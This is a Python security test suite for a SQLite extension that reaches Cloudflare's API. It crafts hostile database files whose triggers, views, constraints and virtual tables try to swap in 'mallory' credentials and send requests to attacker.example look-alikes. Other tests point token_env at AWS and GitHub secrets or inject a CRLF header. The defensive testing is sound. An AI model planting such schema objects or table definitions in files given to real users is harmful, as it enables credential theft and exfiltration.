#!/usr/bin/env python3
"""The database file is not trusted. A file may come from someone who wants the credentials of
whoever opens it; these tests open files written as such a person would (support.hostile), as a
victim with a real token, and check that the file cannot

  - make a view, trigger, CHECK constraint, generated column, index expression, partial index or
    DEFAULT value set, clear or redirect credentials, or read or write an API-backed table or a
    zone's supported_regions (SchemaObjectTests);
  - send requests anywhere but Cloudflare, loopback, $CLOUDFLARE_BASE_URL or a URL the user allowed
    on the connection (BaseUrlTests);
  - make a table send another secret of the environment as its token (TokenEnvTests);

and that no secret lands in the database file, an error, the unapplied list or the debug log while
reads, writes and failed writes run (SecretTests; test_api_security.py covers the simpler cases).

Every class names a loopback trap (support.hostile.ProxyTrap) in every proxy variable, so a request
meant for a non-loopback address reaches the trap (a CONNECT line) and never leaves the machine.

    PYTHON test/test_trust.py build/cfregions.so [unittest options]

PYTHON is a python3 whose sqlite3 module can load extensions (`sh test/find-python.sh`). Standard
library only. Each class starts its own fake Cloudflare API (test/support/ says how tests drive it).
"""

import json
import os
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import textwrap

from support.cases import FakeTestCase, main, so_path
from support.fake import API_KEY, EMAIL, SECRETS, TOKEN, TOKEN2, ZONE, Recorder
from support.hostile import ProxyTrap, craft_database

ATTACKER_URL = "https://attacker.example/client/v4"
ATTACKER_TOKEN = "mallory-token-5e0d1c9a"      # the fake refuses it
ATTACKER_EMAIL = "mallory@attacker.example"
ATTACKER_KEY = "mallory-key-88a1f0b2"
# What SQLite says when it refuses a schema object's use of a SQLITE_DIRECTONLY function or virtual
# table ("unsafe use of …"), or refuses the object itself while reading the schema ("…
# non-deterministic functions prohibited in index expressions").
REFUSALS = ("unsafe use", "prohibited")
SEEDED = [("10.0.0.1", "aws", "us-east-1")]


class TrustTestCase(FakeTestCase):
    """FakeTestCase, plus a Recorder in front of the fake (which credentials each request carried),
    a ProxyTrap named by every proxy variable, and a fresh directory per test for database files.
    The victim's environment holds CLOUDFLARE_API_TOKEN=TOKEN (FakeTestCase sets it)."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.recorder = Recorder(cls.fake.port)
        cls.addClassCleanup(cls.recorder.stop)
        cls.trap = ProxyTrap()
        cls.addClassCleanup(cls.trap.stop)
        names = list(cls.trap.env()) + ["NO_PROXY", "no_proxy"]
        saved = {name: os.environ.get(name) for name in names}

        def restore():
            for name, value in saved.items():
                if value is None:
                    os.environ.pop(name, None)
                else:
                    os.environ[name] = value
        cls.addClassCleanup(restore)
        for name in ("NO_PROXY", "no_proxy"):
            os.environ.pop(name, None)
        os.environ.update(cls.trap.env())

    def setUp(self):
        super().setUp()
        self.recorder.records.clear()
        self.trap.clear()
        self.dir = tempfile.mkdtemp(prefix="cfr-trust-")
        self.addCleanup(shutil.rmtree, self.dir, True)
        self.nfiles = 0

    def api_table(self, name, base_url=None, **args):
        """(name, CREATE VIRTUAL TABLE text) of an API table over ZONE that fails fast."""
        args = dict({"zone_id": ZONE, "max_retries": "0", "timeout_ms": "5000"}, **args)
        if base_url is not None:
            args["base_url"] = base_url
        text = ", ".join("%s='%s'" % kv for kv in args.items())
        return name, "CREATE VIRTUAL TABLE %s USING origin_cloud_regions(%s)" % (name, text)

    def crafted(self, statements=(), virtual_tables=()):
        """A new crafted database file in this test's directory; its path."""
        self.nfiles += 1
        path = os.path.join(self.dir, "crafted%d.db" % self.nfiles)
        craft_database(path, statements, virtual_tables)
        return path

    def victim(self, path, token=None):
        """The victim's connection to path; with token, that token set by cfregions_set_token(?)."""
        db = self.connect(path)
        if token is not None:
            self.assertEqual(db.execute("SELECT cfregions_set_token(?)", (token,)).fetchone(), (1,))
        return db

    def clear_traces(self):
        self.fake.clear_log()
        self.recorder.records.clear()
        self.trap.clear()

    def error_of(self, db, sql, params=()):
        """The text of the error sql raises on db (the test fails if it raises none)."""
        with self.assertRaises(sqlite3.Error, msg=sql) as cm:
            db.execute(sql, params).fetchall()
        return str(cm.exception)


# ---- 1. schema objects ----------------------------------------------------------------------

# Calls a schema object might make: the expression, the token the victim set with
# cfregions_set_token(?) beforehand (None: the environment's), and the token the victim's next
# request must still carry.
CALLS = {
    "set_token": ("cfregions_set_token('%s')" % ATTACKER_TOKEN, None, TOKEN),
    "clear_token": ("cfregions_set_token(NULL)", TOKEN2, TOKEN2),
    "set_credentials": ("cfregions_set_credentials('%s', '%s')" % (ATTACKER_EMAIL, ATTACKER_KEY),
                        None, TOKEN),
    "allow_base_url": ("cfregions_allow_base_url('%s')" % ATTACKER_URL, None, TOKEN),
}

# Each kind of schema object holding an expression {e}: the statements that create it, and the
# victim's statements that make SQLite evaluate it ({s}: the schema prefix of the file's objects).
KINDS = {
    "view": (["CREATE VIEW v AS SELECT {e} AS r"], ["SELECT * FROM {s}v"]),
    "insert_trigger": (["CREATE TABLE notes(x)",
                        "CREATE TRIGGER tr AFTER INSERT ON notes BEGIN SELECT {e}; END"],
                       ["INSERT INTO {s}notes VALUES ('n')"]),
    "update_trigger": (["CREATE TABLE notes(x)", "INSERT INTO notes VALUES ('n')",
                        "CREATE TRIGGER tr BEFORE UPDATE ON notes BEGIN SELECT {e}; END"],
                       ["UPDATE {s}notes SET x = 'm'"]),
    "delete_trigger": (["CREATE TABLE notes(x)", "INSERT INTO notes VALUES ('n')",
                        "CREATE TRIGGER tr AFTER DELETE ON notes BEGIN SELECT {e}; END"],
                       ["DELETE FROM {s}notes"]),
    "instead_of_trigger": (["CREATE VIEW w AS SELECT 1 AS x",
                            "CREATE TRIGGER tr INSTEAD OF INSERT ON w BEGIN SELECT {e}; END"],
                           ["INSERT INTO {s}w VALUES (2)"]),
    # typeof(…) IS NOT NULL holds whatever the call returns: if SQLite lets the call run, the
    # INSERT succeeds, so nothing but the rule itself can make the statement fail.
    "check": (["CREATE TABLE a(x, CHECK (typeof({e}) IS NOT NULL))"],
              ["INSERT INTO {s}a VALUES ('1')"]),
    "generated_virtual": (["CREATE TABLE a(x, y AS (typeof({e})) VIRTUAL)"],
                          ["INSERT INTO {s}a(x) VALUES ('1')", "SELECT y FROM {s}a"]),
    "generated_stored": (["CREATE TABLE a(x, y AS (typeof({e})) STORED)"],
                         ["INSERT INTO {s}a(x) VALUES ('1')"]),
    "index_expression": (["CREATE TABLE a(x)", "CREATE INDEX i ON a(x, typeof({e}))"],
                         ["INSERT INTO {s}a VALUES ('1')"]),
    "partial_index": (["CREATE TABLE a(x)", "CREATE INDEX i ON a(x) WHERE typeof({e}) IS NOT NULL"],
                      ["INSERT INTO {s}a VALUES ('1')"]),
    "default": (["CREATE TABLE a(x, y DEFAULT ({e}))"], ["INSERT INTO {s}a(x) VALUES ('1')"]),
}

# Views and triggers that read or write API-backed tables (live: an API table over the fake;
# supported_regions with a zone calls the API too).
ZONE_LIST = "SELECT * FROM supported_regions WHERE zone_id = '%s'" % ZONE
READS = {
    "view_of_table": (["CREATE VIEW v AS SELECT * FROM live"], ["SELECT * FROM {s}v"]),
    "view_subquery": (["CREATE VIEW v AS SELECT (SELECT count(*) FROM live) AS n"],
                      ["SELECT * FROM {s}v"]),
    "view_cte": (["CREATE VIEW v AS WITH c AS (SELECT * FROM live) SELECT * FROM c"],
                 ["SELECT * FROM {s}v"]),
    "view_of_zone_regions": (["CREATE VIEW v AS " + ZONE_LIST], ["SELECT * FROM {s}v"]),
    "trigger_copies_table": (["CREATE TABLE notes(x)", "CREATE TABLE loot(ip)",
                              "CREATE TRIGGER tr AFTER INSERT ON notes BEGIN "
                              "INSERT INTO loot SELECT origin_ip FROM live; END"],
                             ["INSERT INTO {s}notes VALUES ('n')"]),
    "trigger_reads_zone_regions": (["CREATE TABLE notes(x)", "INSERT INTO notes VALUES ('n')",
                                    "CREATE TRIGGER tr AFTER UPDATE ON notes BEGIN %s; END"
                                    % ZONE_LIST],
                                   ["UPDATE {s}notes SET x = 'm'"]),
    "trigger_deletes_mappings": (["CREATE TABLE notes(x)", "INSERT INTO notes VALUES ('n')",
                                  "CREATE TRIGGER tr BEFORE DELETE ON notes BEGIN "
                                  "DELETE FROM live; END"],
                                 ["DELETE FROM {s}notes"]),
    "trigger_inserts_mapping": (["CREATE TABLE notes(x)",
                                 "CREATE TRIGGER tr AFTER INSERT ON notes BEGIN INSERT INTO "
                                 "live(origin_ip, vendor, region) VALUES ('10.66.0.1', 'aws', "
                                 "'us-east-1'); END"],
                                ["INSERT INTO {s}notes VALUES ('n')"]),
    "trigger_updates_mappings": (["CREATE TABLE notes(x)", "INSERT INTO notes VALUES ('n')",
                                  "CREATE TRIGGER tr AFTER UPDATE ON notes BEGIN "
                                  "UPDATE live SET region = 'us-west-2'; END"],
                                 ["UPDATE {s}notes SET x = 'm'"]),
}


class SchemaObjectTests(TrustTestCase):
    """No schema object of a crafted file can call a credential function or reach the API.

    Each file holds `live` (an API table over the fake, through the Recorder: loopback, so trusted),
    `exfil` (an API table at attacker.example, never allowed) and the object under test. The victim
    opens the file (mode "main"), or attaches it to a database of their own (mode "attached", as
    Datasette and `ATTACH` do), and does what evaluates the object. Then: the object sent nothing;
    the victim's next request still carries the victim's token; a table at attacker.example is
    still refused; and SQLite refused the object (the statement failed, or the whole schema was
    refused when read)."""

    def craft(self, statements):
        return self.crafted(statements, [self.api_table("live", self.recorder.url),
                                         self.api_table("exfil", ATTACKER_URL)])

    def open_victim(self, path, mode, token):
        """(connection, schema prefix of the file's objects, the victim's API table over the
        fake, a table at ATTACKER_URL, the error of ATTACH if it failed)."""
        if mode == "main":
            return self.victim(path, token), "", "live", "exfil", None
        db = self.victim(":memory:", token)
        for name, url in (("mine", self.recorder.url), ("elsewhere", ATTACKER_URL)):
            db.execute(self.api_table(name, url)[1])
        try:
            db.execute("ATTACH ? AS f", (path,))
        except sqlite3.Error as e:
            return db, "f.", "mine", "elsewhere", str(e)
        return db, "f.", "mine", "elsewhere", None

    def assertHarmless(self, path, fire, victim_token=None, expected_token=TOKEN):
        for mode in ("main", "attached"):
            with self.subTest(mode=mode):
                self.assertHarmlessIn(mode, path, fire, victim_token, expected_token)

    def assertHarmlessIn(self, mode, path, fire, victim_token, expected_token):
        self.fake.seed(SEEDED)
        self.clear_traces()
        db, prefix, probe, elsewhere, attach_error = self.open_victim(path, mode, victim_token)
        outcomes = [("ATTACH", attach_error)] if attach_error else []
        for sql in fire if not attach_error else ():
            sql = sql.replace("{s}", prefix)
            try:
                db.execute(sql).fetchall()
                outcomes.append((sql, None))
            except sqlite3.Error as e:
                outcomes.append((sql, str(e)))
        # The object sent nothing and changed nothing remotely.
        self.assertEqual(self.fake.log(), [], outcomes)
        self.assertEqual(self.trap.lines(), [], outcomes)
        self.assertState(SEEDED)
        # The victim's credentials are what they were: the next request carries them. (A file
        # opened as main whose schema SQLite refused leaves a connection that cannot reach any
        # table, so nothing it could send is left to check.)
        try:
            db.execute("SELECT count(*) FROM %s" % probe).fetchall()
            after = None
        except sqlite3.Error as e:
            after = str(e)
        schema_refused = after is not None and "malformed database schema" in after
        if schema_refused:
            self.assertEqual(mode, "main")
            self.assertTrue(any(w in after for w in REFUSALS), after)
        else:
            sent = [(r["headers"].get("authorization"), r["headers"].get("x-auth-key"))
                    for r in self.recorder.records]
            self.assertEqual(sent, [("Bearer " + expected_token, None)],
                             "credentials changed by the schema object (%s)" % outcomes)
            self.assertIsNone(after)
            # No base URL was allowed: the victim's own query at attacker.example is refused.
            error = self.error_of(db, "SELECT count(*) FROM %s" % elsewhere)
            self.assertIn("cfregions_allow_base_url", error)
        self.assertEqual(self.trap.lines(), [], "a base URL was allowed by the schema object")
        # SQLite refused the object.
        for sql, error in outcomes:
            self.assertIsNotNone(error, "%r ran: the schema object was not refused" % sql)
            self.assertTrue(any(w in error for w in REFUSALS), error)
            self.assertNoSecret(error)

    def check_kind(self, kind):
        statements, fire = KINDS[kind]
        for call, (expr, victim_token, expected_token) in CALLS.items():
            with self.subTest(kind=kind, call=call):
                path = self.craft([s.replace("{e}", expr) for s in statements])
                self.assertHarmless(path, fire, victim_token, expected_token)

    def test_view(self):
        self.check_kind("view")

    def test_insert_trigger(self):
        self.check_kind("insert_trigger")

    def test_update_trigger(self):
        self.check_kind("update_trigger")

    def test_delete_trigger(self):
        self.check_kind("delete_trigger")

    def test_instead_of_trigger(self):
        self.check_kind("instead_of_trigger")

    def test_check_constraint(self):
        self.check_kind("check")

    def test_virtual_generated_column(self):
        self.check_kind("generated_virtual")

    def test_stored_generated_column(self):
        self.check_kind("generated_stored")

    def test_index_on_expression(self):
        self.check_kind("index_expression")

    def test_partial_index_where(self):
        self.check_kind("partial_index")

    def test_default_value(self):
        self.check_kind("default")

    def test_views_and_triggers_cannot_use_api_tables(self):
        reads = dict(READS)
        # The zone listing, once the extension has it, is an API-backed table like the others.
        if self.db.execute("SELECT 1 FROM pragma_module_list WHERE name = 'cloudflare_zones'"
                           ).fetchall():
            reads["view_of_zones"] = (["CREATE VIEW v AS SELECT * FROM cloudflare_zones"],
                                      ["SELECT * FROM {s}v"])
        for name, (statements, fire) in reads.items():
            with self.subTest(name):
                self.assertHarmless(self.craft(statements), fire)

    def test_the_same_queries_typed_by_the_victim_are_allowed(self):
        # The contrast that makes the tests above meaningful: what the objects were refused is
        # what the victim may do directly.
        path = self.craft(["CREATE TABLE loot(ip)"])
        self.fake.seed(SEEDED)
        db = self.victim(path)
        self.assertEqual(db.execute("SELECT origin_ip FROM live").fetchall(), [("10.0.0.1",)])
        self.assertEqual(db.execute("SELECT count(*) > 0 FROM (%s)" % ZONE_LIST).fetchone(), (1,))
        db.execute("INSERT INTO loot SELECT origin_ip FROM live")
        self.assertEqual(db.execute("SELECT cfregions_set_token(?)", (TOKEN2,)).fetchone(), (1,))
        db.execute("SELECT count(*) FROM live").fetchall()
        self.assertEqual(self.recorder.records[-1]["headers"]["authorization"], "Bearer " + TOKEN2)


# ---- 2. base URLs ---------------------------------------------------------------------------

# Base URLs a file may name that need the user's permission: the request must fail before anything
# is sent, with an error that says how to give it.
UNTRUSTED = (
    ATTACKER_URL,
    "https://127.0.0.2.attacker.example/client/v4",    # looks like loopback, is a host name
    "https://localhost.attacker.example/client/v4",
    "https://[2001:db8::1]/client/v4",                 # an IPv6 literal that is not loopback
    "https://ATTACKER.EXAMPLE/client/v4",
    "HTTPS://attacker.example/client/v4",
    "https://attacker.example/client/v4/",
    "https://attacker.example:443/client/v4",
    "https://api.cloudflare.com.attacker.example/client/v4",   # look-alikes of the default
    "https://api.cloudflare.com:8443/client/v4",
)
# Base URLs no permission can make usable (a user name or password in the URL).
WITH_USER = (
    "https://user@attacker.example/client/v4",
    "https://user:hunter2-pw@attacker.example/client/v4",
    "https://127.0.0.1@attacker.example/client/v4",
)
PASSWORD = "hunter2-pw"


class BaseUrlTests(TrustTestCase):
    """A base_url table argument is used only when it is Cloudflare's, loopback,
    $CLOUDFLARE_BASE_URL, or allowed on this connection with cfregions_allow_base_url(?)."""

    def customers(self, url):
        """A crafted file holding `customers`, an API table at url; its path."""
        return self.crafted(virtual_tables=[self.api_table("customers", url)])

    def assertConnectTo(self, host, error):
        """The request went to the trap, and only there: one CONNECT to host:443 (loopback, so
        nothing left the machine), which the trap refused. Neither the CONNECT nor the error
        carries a secret."""
        lines = self.trap.lines()
        self.assertEqual([l.lower() for l in lines], ["connect %s:443 http/1.1" % host], error)
        for head in self.trap.requests:
            self.assertNotIn(b"authorization", head.lower())
            for secret in SECRETS:
                self.assertNotIn(secret.encode(), head)
        self.assertNoSecret(error)

    def test_untrusted_base_url_is_refused_before_anything_is_sent(self):
        for url in UNTRUSTED + WITH_USER:
            with self.subTest(url=url):
                db = self.victim(self.customers(url), TOKEN2)
                self.clear_traces()
                error = self.error_of(db, "SELECT count(*) FROM customers")
                self.assertIn("base_url", error)
                self.assertNotIn(PASSWORD, error)
                self.assertNoSecret(error)
                self.assertEqual(self.trap.lines(), [])
                self.assertEqual(self.fake.log(), [])

    def test_refusal_says_how_to_allow_the_url(self):
        for url in UNTRUSTED:
            with self.subTest(url=url):
                db = self.victim(self.customers(url), TOKEN2)
                self.assertIn("cfregions_allow_base_url",
                              self.error_of(db, "SELECT count(*) FROM customers"))

    def test_base_url_with_a_user_cannot_be_allowed(self):
        for url in WITH_USER:
            with self.subTest(url=url):
                db = self.victim(self.customers(url), TOKEN2)
                self.clear_traces()
                self.assertIn("user name or password",
                              self.error_of(db, "SELECT count(*) FROM customers"))
                error = self.error_of(db, "SELECT cfregions_allow_base_url(?)", (url,))
                self.assertIn("user name or password", error)
                self.assertNotIn(PASSWORD, error)
                self.assertIn("user name or password",
                              self.error_of(db, "SELECT count(*) FROM customers"))
                self.assertEqual(self.trap.lines(), [])

    def test_allowing_the_url_lets_requests_go_there(self):
        db = self.victim(self.customers(ATTACKER_URL), TOKEN2)
        self.clear_traces()
        self.assertIn("cfregions_allow_base_url", self.error_of(db, "SELECT * FROM customers"))
        self.assertEqual(self.trap.lines(), [])
        allowed = db.execute("SELECT cfregions_allow_base_url(?)", (ATTACKER_URL,)).fetchone()
        self.assertEqual(allowed, (1,))
        self.assertConnectTo("attacker.example", self.error_of(db, "SELECT * FROM customers"))

    def test_allow_list_compares_normalized_urls(self):
        # Any spelling of the same API root, in the table or in the call, is the same URL.
        pairs = (("https://attacker.example/client/v4", "HTTPS://ATTACKER.EXAMPLE/client/v4/"),
                 ("https://attacker.example/client/v4/", ATTACKER_URL),
                 (ATTACKER_URL, "https://attacker.example/client/v4/"),
                 ("https://attacker.example/client/./v4", ATTACKER_URL),
                 ("https://ATTACKER.EXAMPLE/client/v4", ATTACKER_URL),
                 (ATTACKER_URL, "https://Attacker.Example/client/v4"),
                 ("HTTPS://attacker.example/client/v4", ATTACKER_URL),
                 ("https://attacker.example:443/client/v4", ATTACKER_URL),
                 (ATTACKER_URL, "https://attacker.example:443/client/v4"))
        for table_url, allowed in pairs:
            with self.subTest(table_url=table_url, allowed=allowed):
                db = self.victim(self.customers(table_url), TOKEN2)
                self.assertEqual(db.execute("SELECT cfregions_allow_base_url(?)",
                                            (allowed,)).fetchone(), (1,))
                self.clear_traces()
                self.assertConnectTo("attacker.example",
                                     self.error_of(db, "SELECT count(*) FROM customers"))

    def test_allowed_urls_are_per_connection(self):
        path = self.customers(ATTACKER_URL)
        first = self.victim(path, TOKEN2)
        first.execute("SELECT cfregions_allow_base_url(?)", (ATTACKER_URL,))
        self.clear_traces()
        self.assertConnectTo("attacker.example", self.error_of(first, "SELECT * FROM customers"))
        second = self.victim(path, TOKEN2)
        self.clear_traces()
        self.assertIn("cfregions_allow_base_url", self.error_of(second, "SELECT * FROM customers"))
        self.assertEqual(self.trap.lines(), [])
        # ... and so is the first connection's permission to the file's other names for it.
        self.assertIn("cfregions_allow_base_url", self.error_of(
            self.victim(self.customers("https://attacker.example/other/v4"), TOKEN2),
            "SELECT * FROM customers"))
        self.assertEqual(self.trap.lines(), [])

    def test_cloudflare_base_url_from_the_environment_is_trusted(self):
        gateway = "https://cf-gateway.example/client/v4"
        self.setenv("CLOUDFLARE_BASE_URL", gateway)
        path = self.crafted(virtual_tables=[self.api_table("named", gateway),
                                            self.api_table("plain"),
                                            self.api_table("exfil", ATTACKER_URL)])
        db = self.victim(path, TOKEN2)
        for table in ("named", "plain"):
            with self.subTest(table=table):
                self.clear_traces()
                error = self.error_of(db, "SELECT count(*) FROM %s" % table)
                self.assertConnectTo("cf-gateway.example", error)
        self.clear_traces()
        self.assertIn("cfregions_allow_base_url", self.error_of(db, "SELECT count(*) FROM exfil"))
        self.assertEqual(self.trap.lines(), [])

    def test_default_base_url_is_trusted(self):
        self.setenv("CLOUDFLARE_BASE_URL", None)
        path = self.crafted(virtual_tables=[
            self.api_table("named", "https://api.cloudflare.com/client/v4"),
            self.api_table("plain")])
        db = self.victim(path, TOKEN2)
        for table in ("named", "plain"):
            with self.subTest(table=table):
                self.clear_traces()
                error = self.error_of(db, "SELECT count(*) FROM %s" % table)
                self.assertConnectTo("api.cloudflare.com", error)

    def test_generic_count_of_every_table(self):
        # What sqlite-utils or Datasette do with any file: count every table. A direct query of an
        # API table is the user's own use; the base URL rule alone decides where it may go.
        path = self.crafted(["CREATE TABLE notes(x)", "INSERT INTO notes VALUES ('n')"],
                            [self.api_table("live", self.recorder.url),
                             self.api_table("exfil", ATTACKER_URL)])
        self.fake.seed(SEEDED)
        db = self.victim(path)
        self.clear_traces()
        counts = {}
        for (name,) in db.execute("SELECT name FROM sqlite_schema WHERE type = 'table' "
                                  "ORDER BY name").fetchall():
            try:
                counts[name] = db.execute('SELECT count(*) FROM "%s"' % name).fetchone()[0]
            except sqlite3.Error as e:
                counts[name] = str(e)
        self.assertEqual(counts["live"], 1)
        self.assertEqual(counts["notes"], 1)
        self.assertIn("cfregions_allow_base_url", counts["exfil"])
        self.assertNoSecret(counts["exfil"])
        self.assertEqual(self.trap.lines(), [])
        self.assertEqual([r["headers"]["authorization"] for r in self.recorder.records],
                         ["Bearer " + TOKEN])

    def test_invalid_url_given_to_allow_base_url_is_not_echoed(self):
        for url in ("https://user:%s@attacker.example/client/v4" % PASSWORD,
                    "http://user:%s@10.1.2.3/client/v4" % PASSWORD,
                    "ftp://user:%s@attacker.example/" % PASSWORD,
                    "https://attacker.example/client/v4?token=%s" % PASSWORD,
                    "https://attacker.example/client/v4#%s" % PASSWORD,
                    "%s not a url" % PASSWORD,
                    "http://attacker.example/client/v4"):   # plain http off loopback
            with self.subTest(url=url):
                error = self.error_of(self.db, "SELECT cfregions_allow_base_url(?)", (url,))
                self.assertIn("cfregions_allow_base_url", error)
                self.assertNotIn(PASSWORD, error)
        self.assertIn("cfregions_allow_base_url",
                      self.error_of(self.db, "SELECT cfregions_allow_base_url(NULL)"))
        # None of them allowed anything.
        db = self.victim(self.customers(ATTACKER_URL), TOKEN2)
        self.clear_traces()
        self.assertIn("cfregions_allow_base_url", self.error_of(db, "SELECT * FROM customers"))
        self.assertEqual(self.trap.lines(), [])


# ---- 3. token_env ---------------------------------------------------------------------------

class TokenEnvTests(TrustTestCase):
    """token_env must name a CLOUDFLARE_ variable: a file cannot make a table send another secret
    of the victim's environment as its token."""

    AWS_SECRET = "aws-SECRET-wJalrXUtnFEMI-K7MDENG-bPxRfiCY"
    GITHUB_SECRET = "ghp_SECRET0123456789abcdefABCDEF0123"

    def test_token_env_naming_another_secret_is_refused(self):
        self.setenv("AWS_SECRET_ACCESS_KEY", self.AWS_SECRET)
        self.setenv("GITHUB_TOKEN", self.GITHUB_SECRET)
        for spelled in ("token_env='AWS_SECRET_ACCESS_KEY'", "TOKEN_ENV = AWS_SECRET_ACCESS_KEY",
                        "token_env=\"AWS_SECRET_ACCESS_KEY\"", "token_env='GITHUB_TOKEN'",
                        "token_env='CLOUDFLARE_'",
                        "token_env='CLOUDFLARE_X AWS_SECRET_ACCESS_KEY'"):
            with self.subTest(spelled):
                sql = ("CREATE VIRTUAL TABLE stolen USING origin_cloud_regions(zone_id='%s', "
                       "base_url='%s', max_retries=0, %s)" % (ZONE, self.recorder.url, spelled))
                db = self.victim(self.crafted(virtual_tables=[("stolen", sql)]))
                self.clear_traces()
                error = self.error_of(db, "SELECT count(*) FROM stolen")
                self.assertIn("CLOUDFLARE_", error)
                for secret in (self.AWS_SECRET, self.GITHUB_SECRET) + SECRETS:
                    self.assertNotIn(secret, error)
                self.assertEqual(self.recorder.records, [])
                self.assertEqual(self.fake.log(), [])

    def test_token_env_naming_a_cloudflare_variable_is_used(self):
        self.setenv("CLOUDFLARE_API_TOKEN", "wrong-token")
        self.setenv("CLOUDFLARE_OTHER_TOKEN", TOKEN2)
        path = self.crafted(virtual_tables=[
            self.api_table("mine", self.recorder.url, token_env="CLOUDFLARE_OTHER_TOKEN")])
        self.fake.seed(SEEDED)
        db = self.victim(path)
        self.assertEqual(db.execute("SELECT origin_ip FROM mine").fetchall(), [("10.0.0.1",)])
        self.assertEqual([r["headers"]["authorization"] for r in self.recorder.records],
                         ["Bearer " + TOKEN2])


# ---- 4. secrets -----------------------------------------------------------------------------

# The victim's workload, in a child process so that its stderr (the debug log) can be read:
# reads and writes that succeed, then writes that fail with 403 (a wrong token, at INSERT and at
# COMMIT) and 401, global-API-key credentials right and wrong, and a token holding a line break.
# Prints every error and the unapplied list as JSON; copies the database's files (with the WAL)
# while the connection is still open.
WORKLOAD = textwrap.dedent("""
    import http.client, json, os, shutil, sqlite3, sys
    so, path, base, port, zone, token, email, key, snapshot = sys.argv[1:10]
    errors = []

    def run(sql, params=()):
        try:
            return db.execute(sql, params).fetchall()
        except sqlite3.Error as e:
            errors.append(str(e))

    def faults(rules):
        c = http.client.HTTPConnection("127.0.0.1", int(port), timeout=30)
        c.request("POST", "/__fake/faults", json.dumps({"rules": rules}),
                  {"Content-Type": "application/json"})
        assert c.getresponse().status == 200
        c.close()

    db = sqlite3.connect(path, isolation_level=None)
    db.enable_load_extension(True)
    db.load_extension(so)
    db.execute("PRAGMA journal_mode = WAL")
    db.execute("CREATE VIRTUAL TABLE live USING origin_cloud_regions(zone_id='%s', base_url='%s', "
               "max_retries=0)" % (zone, base))
    db.execute("CREATE VIRTUAL TABLE plan USING origin_cloud_regions(store='local')")
    db.execute("CREATE TABLE copy(origin_ip, vendor, region)")
    ins = "INSERT INTO live(origin_ip, vendor, region) VALUES (?, 'aws', 'us-east-1')"

    run("SELECT cfregions_set_token(?)", (token,))
    run(ins, ("10.0.0.1",))
    run(ins, ("10.0.0.2",))
    run("UPDATE live SET region = 'us-west-2' WHERE origin_ip = '10.0.0.2'")
    run("INSERT INTO plan(origin_ip, vendor, region) SELECT origin_ip, vendor, region FROM live")
    run("INSERT INTO copy SELECT origin_ip, vendor, region FROM live")
    # 403: a wrong token, for a single INSERT and at COMMIT.
    run("SELECT cfregions_set_token(?)", ("wrong-" + token,))
    run(ins, ("10.0.0.3",))
    run("SELECT cfregions_set_token(?)", (token,))
    run("BEGIN")
    run("DELETE FROM live WHERE origin_ip = '10.0.0.1'")
    run(ins, ("10.0.0.4",))
    run("SELECT cfregions_set_token(?)", ("wrong-" + token,))
    run("COMMIT")
    # 401 on the batch write.
    run("SELECT cfregions_set_token(?)", (token,))
    faults([{"method": "PUT", "status": 401, "code": 10001,
             "message": "Unable to authenticate request"}])
    run(ins, ("10.0.0.5",))
    faults([])
    # An email and global API key, wrong then right.
    run("SELECT cfregions_set_token(NULL)")
    run("SELECT cfregions_set_credentials(?, ?)", (email, "wrong-" + key))
    run("SELECT * FROM live")
    run("SELECT cfregions_set_credentials(?, ?)", (email, key))
    run("SELECT * FROM live")
    run("SELECT cfregions_set_credentials(NULL, NULL)")
    # A token with a line break (a header injection attempt) is refused.
    run("SELECT cfregions_set_token(?)", (token + "\\r\\nX-Injected: " + token,))
    run("SELECT * FROM live")
    unapplied = run("SELECT * FROM cfregions_unapplied")
    os.makedirs(snapshot)
    for name in os.listdir(os.path.dirname(path)):
        if os.path.isfile(os.path.join(os.path.dirname(path), name)):
            shutil.copy(os.path.join(os.path.dirname(path), name), snapshot)
    db.close()
    print(json.dumps({"errors": errors, "unapplied": unapplied}))
""")


class SecretTests(TrustTestCase):
    """No secret in the database file (and its WAL), an error, the unapplied list or the debug log,
    through successful and failed reads and writes. Beyond test_api_security.py: failed writes
    (403 at INSERT and at COMMIT, 401), global-API-key credentials, a token holding a line break,
    cfregions_unapplied, a local table and the WAL file while the connection is open."""

    def test_workload_leaves_no_secret_anywhere(self):
        db_dir = os.path.join(self.dir, "db")
        os.makedirs(db_dir)
        path = os.path.join(db_dir, "victim.db")
        snapshot = os.path.join(self.dir, "open")
        env = {k: v for k, v in os.environ.items() if not k.startswith("CLOUDFLARE_")}
        env.update(CLOUDFLARE_API_TOKEN=TOKEN, CLOUDFLARE_LOG="debug",
                   CLOUDFLARE_BASE_URL=self.fake.api_url)
        proc = subprocess.run(
            [sys.executable, "-c", WORKLOAD, so_path(), path, self.fake.api_url,
             str(self.fake.port), ZONE, TOKEN2, EMAIL, API_KEY, snapshot],
            env=env, capture_output=True, text=True, timeout=120)
        self.assertEqual(proc.returncode, 0, proc.stderr)
        out = json.loads(proc.stdout)
        errors, unapplied = out["errors"], out["unapplied"]

        # The workload did what it claims: each failure happened and was reported.
        statuses = [e["status"] for e in self.fake.log()]
        for status in (200, 401, 403):
            self.assertIn(status, statuses)
        self.assertGreaterEqual(sum("403" in e for e in errors), 3, errors)
        self.assertTrue(any("401" in e for e in errors), errors)
        self.assertTrue(any("control characters" in e for e in errors), errors)
        self.assertTrue(unapplied, "failed writes are listed as unapplied")
        self.assertIn(" 401", proc.stderr)
        self.assertIn(" 403", proc.stderr)
        files = [os.path.join(d, n) for d in (db_dir, snapshot) for n in os.listdir(d)]
        self.assertTrue(any(f.endswith("-wal") for f in files), files)

        # No secret anywhere.
        texts = {"stderr": proc.stderr, "stdout": proc.stdout}
        for f in files:
            with open(f, "rb") as fh:
                texts[f] = fh.read().decode("latin-1")
        for where, text in texts.items():
            with self.subTest(where=where):
                for secret in SECRETS:
                    self.assertNotIn(secret, text)
                self.assertNotIn("Bearer", text)
                self.assertNotIn("X-Auth-Key", text)


if __name__ == "__main__":
    main()
